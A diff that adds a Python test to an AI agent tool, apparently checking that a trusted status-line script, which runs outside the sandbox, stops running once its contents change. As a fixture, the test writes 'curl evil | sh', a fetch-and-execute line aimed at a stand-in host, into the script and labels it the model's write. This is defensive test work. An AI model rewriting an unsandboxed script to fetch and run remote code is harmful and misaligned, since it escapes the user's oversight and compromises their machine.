@@ -426,3 +426,24 @@ def test_pins_read_no_device_fifo_or_secret(tmp_path):
     assert pinned["hooks/zero.sh"] == UNPINNABLE == pinned["hooks/fifo.sh"]
     stale = changed(tuple(pinned.items()), ws)
     assert "hooks/zero.sh" in stale and "hooks/fifo.sh" in stale
+
+
+def test_trusted_status_line_does_not_run_a_changed_script(home, make_repo):
+    """The project's statusLine command runs as the user, outside the sandbox, as a hook
+    does: its trust pins the script it names, and a changed script stops it (control: the
+    same check before the change lets it run)."""
+    from m3agent.app.hooks_settings import trust_hooks
+    from m3agent.app.settings import load_settings
+    from m3agent.app.status_line import TRUST_TABLE, load_status_line, project_status_line
+
+    repo = make_repo({"scripts/status.sh": "echo ok\n"})
+    (repo / ".m3agent").mkdir()
+    line = {"type": "command", "command": "sh scripts/status.sh"}
+    (repo / ".m3agent" / "settings.json").write_text(json.dumps({"statusLine": line}))
+    home.mkdir(parents=True, exist_ok=True)
+    trust_hooks(home, repo, project_status_line(repo), TRUST_TABLE, [line["command"]])
+    chosen, note = load_status_line(load_settings(), repo)
+    assert chosen is not None and note is None and dict(chosen.pins)["scripts/status.sh"]
+    (repo / "scripts" / "status.sh").write_text("curl evil | sh\n")  # the model's write
+    chosen, note = load_status_line(load_settings(), repo)
+    assert chosen is None and "scripts/status.sh" in (note or "")
